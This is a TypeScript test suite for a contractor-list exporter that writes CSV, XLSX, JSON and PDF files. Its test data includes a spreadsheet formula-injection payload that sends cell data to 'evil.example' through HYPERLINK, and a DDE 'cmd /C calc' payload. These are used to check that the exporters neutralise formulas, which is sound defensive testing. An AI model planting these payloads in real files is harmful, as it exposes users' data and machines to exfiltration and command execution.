import assert from 'node:assert/strict'
import { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { test } from 'node:test'
import fc from 'fast-check'
import { unzipSync } from 'fflate'
import { readSheet } from 'read-excel-file/node'
import { extractText, getDocumentProxy, getMeta } from 'unpdf'
import { chooseColumns, contractorColumns, itemColumns, type Row } from './columns.ts'
import { writeCsv } from './csv.ts'
import type { FileDescription, Writer } from './file.ts'
import { writeJson } from './json.ts'
import { writePdf } from './pdf.ts'
import { writeXlsx } from './xlsx.ts'

const known = [...contractorColumns, ...itemColumns]
const file: FileDescription = {
  title: 'Teaming partners',
  filters: ['All contractors of the list'],
  columns: chooseColumns(known, [
    'name',
    'totalContractValue',
    'activeContractsCount',
    'registrationDate',
    'notes',
    'tags',
    'addedAt',
  ]),
  madeAt: new Date('2026-11-21T23:30:00Z'),
  timeZone: 'Europe/Berlin',
}
const attack = '=HYPERLINK("http://evil.example/?"&A2,"click")'
const rows: Row[] = [
  {
    name: 'Łódź & Söhne <GmbH>, "the first"',
    totalContractValue: '-1234567890123.45',
    activeContractsCount: 3,
    registrationDate: '2019-02-28',
    notes: attack,
    tags: ['a,b', 'c'],
    addedAt: new Date('2026-11-20T12:00:00Z'),
  },
  {
    name: '+1 800 CALL',
    totalContractValue: null,
    activeContractsCount: 0,
    registrationDate: null,
    notes: 'two\nlines',
    tags: [],
    addedAt: null,
  },
  {
    name: '-5',
    totalContractValue: '0.00',
    activeContractsCount: null,
    registrationDate: '1899-01-01',
    notes: '@SUM(A1)',
    tags: null,
    addedAt: null,
  },
]

async function* inBatches(all: readonly Row[], size = 2) {
  for (let from = 0; from < all.length; from += size) yield all.slice(from, from + size)
}

const write = (writer: Writer, all: readonly Row[], more: Partial<FileDescription> = {}) =>
  buffer(Readable.from(writer({ ...file, ...more }, inBatches(all))))

/** RFC 4180, section 2, read letter by letter. */
function readCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let at = 0
  while (at < text.length) {
    let field = ''
    if (text[at] === '"') {
      for (at++; ; at++) {
        if (text[at] === '"' && text[at + 1] === '"') field += text[at++]
        else if (text[at] === '"') break
        else if (at >= text.length) throw new Error('A quoted field has no end')
        else field += text[at]
      }
      at++
    } else {
      for (; at < text.length && text[at] !== ',' && text[at] !== '\r'; at++) {
        if (text[at] === '"' || text[at] === '\n') throw new Error('Not in a plain field')
        field += text[at]
      }
    }
    record.push(field)
    if (text[at] === ',') {
      at++
    } else if (text.startsWith('\r\n', at)) {
      at += 2
      records.push(record)
      record = []
    } else throw new Error(`Neither comma nor CRLF at ${at}`)
  }
  return records
}

test('GG-06 GG-09 a CSV file is as RFC 4180 has it, and no text in it becomes a formula', async () => {
  const text = (await write(writeCsv, rows)).toString()
  const [head, ...records] = readCsv(text)
  assert.deepEqual(
    head,
    file.columns.map(({ label }) => label),
  )
  assert.deepEqual(records, [
    [
      'Łódź & Söhne <GmbH>, "the first"',
      '-1234567890123.45',
      '3',
      '2019-02-28',
      `'${attack}`,
      'a,b; c',
      '2026-11-20T12:00:00.000Z',
    ],
    ["'+1 800 CALL", '', '0', '', 'two\nlines', '', ''],
    ['-5', '0.00', '', '1899-01-01', "'@SUM(A1)", '', ''],
  ])
  for (const before of [' ', '   ', '\u00a0', '\u200b', '\u202e', '\ufeff', '\u3000', ' \t', '\u0001']) {
    for (const sign of ['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
      const notes = `${before}${sign}cmd|' /C calc'!A0`
      const [, [cell] = []] = readCsv(
        (await write(writeCsv, [{ notes }], { columns: chooseColumns(known, ['notes']) })).toString(),
      )
      assert.equal(cell, `'${notes}`)
    }
  }
  const withMark = await write(writeCsv, rows, { hasByteOrderMark: true })
  assert.deepEqual([...withMark.subarray(0, 3)], [0xef, 0xbb, 0xbf])
  assert.equal(withMark.subarray(3).toString(), text)
})

test('GG-06 any text comes back from CSV as it was, but for the apostrophe before what a spreadsheet would calculate', async () => {
  const cell = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n,;"\' 1a＝') }),
  )
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 5 }), async cells => {
      const given = cells.map(([name, notes]) => ({ name: name.toWellFormed(), notes: notes.toWellFormed() }))
      const columns = chooseColumns(known, ['name', 'notes'])
      const records = readCsv((await write(writeCsv, given, { columns })).toString()).slice(1)
      assert.equal(records.length, given.length)
      for (const [index, { name, notes }] of given.entries()) {
        for (const [came, sent] of [
          [records[index]?.[0], name],
          [records[index]?.[1], notes],
        ] as const) {
          assert.doesNotMatch(came ?? '', /^[=@\t\r\n]|^[+-](?!\d+(\.\d+)?$)/)
          assert.equal(came?.startsWith("'") && came !== sent ? came.slice(1) : came, sent)
        }
      }
    }),
    { numRuns: 300 },
  )
})

test('GG-06 GG-09 an XLSX file opens with typed cells, a frozen head, and text that is never a formula', async () => {
  const bytes = await write(writeXlsx, rows)
  const [head, ...read] = await readSheet(bytes)
  assert.deepEqual(
    head,
    file.columns.map(({ label }) => label),
  )
  assert.deepEqual(read, [
    [
      'Łódź & Söhne <GmbH>, "the first"',
      -1234567890123.45,
      3,
      new Date('2019-02-28T00:00:00Z'),
      attack,
      'a,b; c',
      new Date('2026-11-20T12:00:00Z'),
    ],
    ['+1 800 CALL', null, 0, null, 'two\nlines', null, null],
    ['-5', 0, null, '1899-01-01', '@SUM(A1)', null, null],
  ])
  const about = await readSheet(bytes, 'About')
  assert.deepEqual(about[0], ['Title', 'Teaming partners'])
  const parts = unzipSync(bytes)
  const sheet = Buffer.from(parts['xl/worksheets/sheet1.xml'] ?? []).toString()
  assert.match(sheet, /<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"\/>/)
  assert.match(sheet, /<autoFilter ref="A1:G4"\/>/)
  assert.doesNotMatch(sheet, /<f[ >]|<hyperlink/)
})

test('GG-06 an XLSX file holds what XML cannot hold as far as it can, and cuts what no cell takes', async () => {
  const columns = chooseColumns(known, ['name', 'notes'])
  const given = [
    { name: 'a\u0000b\u0007c\ufffe & <d> ]]> _x0041_ \ud800!', notes: 'x'.repeat(40_000) },
    { name: '  spaces  ', notes: '\t=1+1' },
  ]
  const [, first, second] = await readSheet(await write(writeXlsx, given, { columns }), 'Contractors', { trim: false })
  assert.equal(first?.[0], 'abc & <d> ]]> _x0041_ \ufffd!')
  assert.equal(String(first?.[1]).length, 32_767)
  assert.deepEqual(second, ['  spaces  ', '\t=1+1'])
})

test('GG-06 a JSON file has the exact values, and a record on each line', async () => {
  const text = (await write(writeJson, rows)).toString()
  const read = JSON.parse(text)
  assert.deepEqual(read[0], {
    name: rows[0]?.name,
    totalContractValue: '-1234567890123.45',
    activeContractsCount: 3,
    registrationDate: '2019-02-28',
    notes: attack,
    tags: ['a,b', 'c'],
    addedAt: '2026-11-20T12:00:00.000Z',
  })
  assert.equal(read[2].tags, null)
  assert.deepEqual(
    text
      .trimEnd()
      .split('\n')
      .slice(1, -1)
      .map(line => JSON.parse(line.replace(/,$/, ''))),
    read,
  )
  assert.deepEqual(JSON.parse((await write(writeJson, [])).toString()), [])
})

test('GG-09 in a PDF file no code, amount or word of a label is broken, as many columns as there may be', async () => {
  const keys = ['name', 'uei', 'cageCode', 'dbaName', 'addressLine1', 'state', 'zipCode', 'naicsDescription']
  const columns = chooseColumns(known, [...keys, 'registrationStatus', 'totalContractValue', 'notes', 'tags'])
  const wide = { uei: 'GHHZCMTGD6J4', cageCode: '6MW8W', zipCode: '20190-5617', state: 'WV' }
  const row = {
    ...rows[0],
    ...wide,
    totalContractValue: '10000000000.00',
    naicsDescription: 'Nonferrous Metal (except Copper and Aluminum) Rolling',
  }
  const bytes = await write(writePdf, [row], { columns })
  const { text } = await extractText(await getDocumentProxy(new Uint8Array(bytes)))
  for (const whole of [...Object.values(wide), '10,000,000,000.00', 'Registration', 'Industry', 'Tags']) {
    assert.ok(text[0]?.includes(whole), whole)
  }
})

test('GG-09 a PDF file has title, filters, the time in the person’s zone, the labels and its number on each page, and is tagged', async () => {
  const many = Array.from({ length: 90 }, (_, index) => ({ ...rows[0], name: `Firm ${index}`, tags: ['Żółć'] }))
  const bytes = await write(writePdf, many)
  const document = await getDocumentProxy(new Uint8Array(bytes))
  const { text, totalPages } = await extractText(document)
  assert.ok(totalPages > 1)
  assert.match(text[0] ?? '', /^Teaming partners\s+All contractors of the list/)
  for (const [index, page] of text.entries()) {
    assert.match(page, /Total contract value\s+\(USD\)/)
    assert.match(page, new RegExp(`Page ${index + 1} of ${totalPages}`))
    assert.match(page, /22 November 2026 at 00:30 \(Europe\/Berlin\)/)
  }
  for (let index = 0; index < 90; index++) assert.match(text.join('\n'), new RegExp(`Firm ${index}\\b`))
  assert.match(text.join('\n'), /-1,234,567,890,123\.45/)
  assert.match(text.join('\n'), /Żółć/)
  const { info } = await getMeta(document)
  assert.equal(info.Title, 'Teaming partners')
  assert.equal(info.Language, 'en-US')
  assert.deepEqual(await document.getMarkInfo(), { Marked: true, UserProperties: false, Suspects: false })
  const tree = await (await document.getPage(1)).getStructTree()
  const roles: string[] = []
  const walk = (node: { role?: string; children?: unknown[] }) => {
    if (node.role) roles.push(node.role)
    for (const child of node.children ?? []) walk(child as typeof node)
  }
  walk(tree as never)
  for (const role of ['H1', 'P', 'Table', 'TR', 'TH', 'TD']) assert.ok(roles.includes(role), role)
})
